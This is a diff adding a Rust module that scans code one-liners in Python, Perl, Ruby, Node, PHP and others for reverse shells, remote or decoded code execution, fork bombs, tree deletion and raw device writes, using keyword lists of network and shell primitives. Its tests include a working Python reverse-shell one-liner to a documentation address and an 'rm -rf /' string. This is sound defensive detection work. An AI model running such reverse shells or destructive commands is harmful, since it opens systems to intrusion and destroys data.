@@ -1,0 +1,451 @@
+//! A small lexical look at one-liners in other languages. It sees what is
+//! plain to see (a socket and a shell, a decoder and `exec`, a recursive delete
+//! of a tree) and never clears code: what it does not see still prompts.
+
+/// Languages whose idioms are told apart.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(crate) enum Language {
+    Python,
+    Perl,
+    Ruby,
+    Node,
+    Php,
+    Lua,
+    Awk,
+    Other,
+}
+
+/// What code would plainly do.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(crate) enum Danger {
+    ReverseShell,
+    RemoteCode,
+    DecodedCode,
+    BareShell,
+    ForkBomb,
+    DeletesTree,
+    WritesDevice,
+}
+
+/// Longer code is looked at only this far, in bytes.
+const LOOKED_AT_MAX: usize = 64 * 1024;
+
+const SOCKETS: [&str; 28] = [
+    "socket",
+    "Socket",
+    "TCPServer",
+    "TCPSocket",
+    "fsockopen",
+    "pfsockopen",
+    "stream_socket_client",
+    "net.connect",
+    "net.Socket",
+    "createConnection",
+    "net.Dial",
+    "net.createServer",
+    "IO::Socket",
+    "io.socket",
+    "/inet/tcp",
+    "/inet/udp",
+    "/inet4/",
+    "HTTP::Tiny",
+    "Sockets",
+    "connect(",
+    "TcpStream",
+    "tcp:connect",
+    "gen_tcp",
+    "ServerSocket",
+    "/dev/tcp/",
+    "/dev/udp/",
+    "TCPClient",
+    "socat",
+];
+
+const STARTERS: [&str; 40] = [
+    "exec(",
+    "exec ",
+    "exec\"",
+    "exec'",
+    "exec sprintf",
+    "execv",
+    "execl",
+    "system",
+    "popen",
+    "Popen",
+    "proc_open",
+    "shell_exec",
+    "passthru",
+    "subprocess",
+    "spawn",
+    "child_process",
+    "execSync",
+    "pty.",
+    "\"pty\"",
+    "'pty'",
+    "os.execute",
+    "io.popen",
+    "IO.popen",
+    "IO::popen",
+    "Process.spawn",
+    "pcntl_exec",
+    "Kernel.",
+    "open3",
+    "`",
+    "%x",
+    "exec.Command",
+    "Runtime",
+    "run(",
+    "readpipe",
+    "qx",
+    "dup2",
+    "fdopen",
+    "getline",
+    "cmd = readline",
+    "instance_eval",
+];
+
+const FETCHERS: [&str; 20] = [
+    "urlopen",
+    "requests.get",
+    "urllib",
+    "http.get",
+    "https.get",
+    "fetch(",
+    "Net::HTTP",
+    "open-uri",
+    "URI.open",
+    "LWP",
+    "file_get_contents('http",
+    "file_get_contents(\"http",
+    "curl",
+    "wget",
+    "httpx",
+    "http.request",
+    "https.request",
+    "WWW::Mechanize",
+    "HTTP::",
+    "download(",
+];
+
+const DECODERS: [&str; 14] = [
+    "b64decode",
+    "base64_decode",
+    "decode64",
+    "a85decode",
+    "b32decode",
+    "unhexlify",
+    "fromhex",
+    "decode('hex",
+    "rot13",
+    "zlib.decompress",
+    "gzinflate",
+    "unpack",
+    "atob(",
+    "'base64')",
+];
+
+const EVALUATORS: [&str; 14] = [
+    "exec(",
+    "eval(",
+    "eval ",
+    "compile(",
+    "Function(",
+    "assert(",
+    "loadstring",
+    "load(",
+    "instance_eval",
+    "system(",
+    "popen(",
+    "runInThisContext",
+    "__import__",
+    "execSync(",
+];
+
+/// Everything plainly dangerous in `code`.
+pub(crate) fn inspect(language: Language, code: &str) -> Vec<Danger> {
+    let code = head(code);
+    let mut found = Vec::new();
+    let starts = has(code, &STARTERS);
+    if has(code, &SOCKETS) && starts && (names_shell(code) || feeds_commands(code)) {
+        found.push(Danger::ReverseShell);
+    }
+    let evaluates = has(code, &EVALUATORS);
+    if has(code, &FETCHERS) && evaluates && !only_literal_starts(code) {
+        found.push(Danger::RemoteCode);
+    }
+    if has(code, &DECODERS) && evaluates {
+        found.push(Danger::DecodedCode);
+    }
+    if starts && starts_bare_shell(language, code) {
+        found.push(Danger::BareShell);
+    }
+    if forks_without_end(code) {
+        found.push(Danger::ForkBomb);
+    }
+    if deletes_tree(code) {
+        found.push(Danger::DeletesTree);
+    }
+    if writes_device(code) {
+        found.push(Danger::WritesDevice);
+    }
+    found
+}
+
+fn head(code: &str) -> &str {
+    let mut end = code.len().min(LOOKED_AT_MAX);
+    while !code.is_char_boundary(end) {
+        end -= 1;
+    }
+    &code[..end]
+}
+
+fn has(code: &str, words: &[&str]) -> bool {
+    words.iter().any(|word| code.contains(word))
+}
+
+fn names_shell(code: &str) -> bool {
+    has(
+        code,
+        &[
+            "/bin/sh",
+            "/bin/bash",
+            "/bin/zsh",
+            "/bin/dash",
+            "/bin/ksh",
+            "\"sh\"",
+            "'sh'",
+            "\"bash\"",
+            "'bash'",
+            "\"cmd",
+            "cmd.exe",
+            "powershell",
+        ],
+    )
+}
+
+/// What comes from the socket is run, without naming a shell.
+fn feeds_commands(code: &str) -> bool {
+    has(
+        code,
+        &[
+            "system$_",
+            "gets",
+            "recv",
+            "receive",
+            "readline",
+            "|& getline",
+            "|&getline",
+            "fgets",
+            "on('data'",
+            "on(\"data\"",
+        ],
+    )
+}
+
+/// A one-liner such as `os.system('curl …')`: the string is judged as shell.
+fn only_literal_starts(code: &str) -> bool {
+    !has(
+        code,
+        &[
+            "exec(",
+            "eval(",
+            "eval ",
+            "Function(",
+            "compile(",
+            "load(",
+            "loadstring",
+            "instance_eval",
+        ],
+    )
+}
+
+/// The code's whole purpose is a shell: a program call with nothing but a
+/// shell's path.
+fn starts_bare_shell(language: Language, code: &str) -> bool {
+    let quoted = strings(code);
+    let bare = |text: &String| {
+        matches!(
+            text.trim().trim_end_matches(" -i").trim_end_matches(" -p").trim_end_matches(" -l"),
+            "/bin/sh" | "/bin/bash" | "/bin/zsh" | "/bin/dash" | "/bin/ksh" | "/usr/bin/bash"
+        )
+    };
+    let _ = language;
+    quoted.iter().any(bare)
+}
+
+fn forks_without_end(code: &str) -> bool {
+    let compact: String = code.chars().filter(|each| !each.is_whitespace()).collect();
+    let forks =
+        has(&compact, &["fork()", "os.fork", "Process.fork", "forkwhile", "loop{fork", "fork&&"]);
+    let forever = has(
+        &compact,
+        &[
+            "while1",
+            "whileTrue",
+            "while(1)",
+            "while(true)",
+            "for(;;)",
+            "loop{",
+            "forkwhile",
+            "{fork}",
+        ],
+    );
+    forks && forever
+}
+
+fn deletes_tree(code: &str) -> bool {
+    let deletes = has(
+        code,
+        &[
+            "rmtree",
+            "rm_rf",
+            "rm_r(",
+            "rmSync",
+            "fs.rm(",
+            "rmdirSync",
+            "remove_dir_all",
+            "removeSync",
+            "remove_tree",
+            "rimraf",
+            "FileUtils.rm",
+            "RecursiveDirectoryIterator",
+            "deltree",
+            "removedirs",
+        ],
+    );
+    let tree = |text: &String| {
+        let path = text.trim_end_matches(['/', '*']);
+        path.is_empty() && text.starts_with('/')
+            || matches!(
+                path,
+                "~" | "/etc"
+                    | "/usr"
+                    | "/var"
+                    | "/home"
+                    | "/root"
+                    | "/bin"
+                    | "/boot"
+                    | "/lib"
+                    | "/sbin"
+                    | "/opt"
+            )
+    };
+    let home = has(
+        code,
+        &[
+            "expanduser",
+            "homedir()",
+            "Path.home()",
+            "Dir.home",
+            "$HOME",
+            "ENV['HOME']",
+            "os.environ['HOME']",
+            "process.env.HOME",
+        ],
+    );
+    deletes && (strings(code).iter().any(tree) || home && !code.contains("join"))
+}
+
+fn writes_device(code: &str) -> bool {
+    let opens = has(
+        code,
+        &[
+            "open(",
+            "File.open",
+            "writeFile",
+            "createWriteStream",
+            "fopen",
+            "file_put_contents",
+            "File.write",
+        ],
+    );
+    let writes =
+        has(code, &["'w", "\"w", "'r+", "\"r+", "'a", "\"a", "write", "put_contents", ">"]);
+    let device = |text: &String| {
+        text.strip_prefix("/dev/").is_some_and(|name| {
+            ["sd", "hd", "vd", "nvme", "mmcblk", "disk", "mem", "dm-"]
+                .iter()
+                .any(|start| name.starts_with(start))
+        })
+    };
+    opens && writes && strings(code).iter().any(device)
+}
+
+/// Whether the code starts other programs.
+pub(crate) fn runs_strings(_language: Language, code: &str) -> bool {
+    has(head(code), &STARTERS)
+}
+
+/// String literals that the code would hand to a shell, judged as scripts.
+pub(crate) fn shell_strings(_language: Language, code: &str) -> Vec<String> {
+    let code = head(code);
+    if !has(code, &STARTERS) {
+        return Vec::new();
+    }
+    let all = strings(code);
+    let mut scripts: Vec<String> =
+        all.iter().filter(|text| text.contains(' ')).take(16).cloned().collect();
+    // `["rm", "-rf", "/"]`: neighbouring strings are an argument list too.
+    if all.len() > 1 && all.len() <= 16 {
+        let words: Vec<String> = all.iter().filter(|text| !text.contains(' ')).cloned().collect();
+        scripts.push(words.join(" "));
+    }
+    scripts
+}
+
+/// The string literals of `code`: quotes and backticks, escapes kept simple.
+fn strings(code: &str) -> Vec<String> {
+    let mut found = Vec::new();
+    let mut characters = code.chars();
+    while let Some(open) = characters.next() {
+        if !matches!(open, '\'' | '"' | '`') {
+            continue;
+        }
+        let mut text = String::new();
+        while let Some(next) = characters.next() {
+            if next == open {
+                found.push(std::mem::take(&mut text));
+                break;
+            }
+            if next == '\\' {
+                match characters.next() {
+                    Some('n') => text.push('\n'),
+                    Some(other) => text.push(other),
+                    None => break,
+                }
+            } else {
+                text.push(next);
+            }
+        }
+        if found.len() >= 64 {
+            break;
+        }
+    }
+    found
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_socket_with_a_shell_is_a_reverse_shell() {
+        let code = r#"import socket,os;c=socket.socket();c.connect(("192.0.2.1",99));os.dup2(c.fileno(),0);os.execv("/bin/sh",["sh"])"#;
+        assert!(inspect(Language::Python, code).contains(&Danger::ReverseShell));
+        let plain = r#"import socket;print(socket.gethostname())"#;
+        assert_eq!(inspect(Language::Python, plain), []);
+    }
+
+    #[test]
+    fn decoding_alone_is_harmless_and_decoding_into_exec_is_not() {
+        assert_eq!(inspect(Language::Python, "print(base64.b64decode('eA=='))"), []);
+        let run = "exec(base64.b64decode('eA=='))";
+        assert_eq!(inspect(Language::Python, run), [Danger::DecodedCode]);
+    }
+
+    #[test]
+    fn strings_for_a_shell_are_found() {
+        assert_eq!(shell_strings(Language::Python, "os.system('ls -l')"), ["ls -l"]);
+        assert!(shell_strings(Language::Python, "print('rm -rf /')").is_empty());
+    }
+}
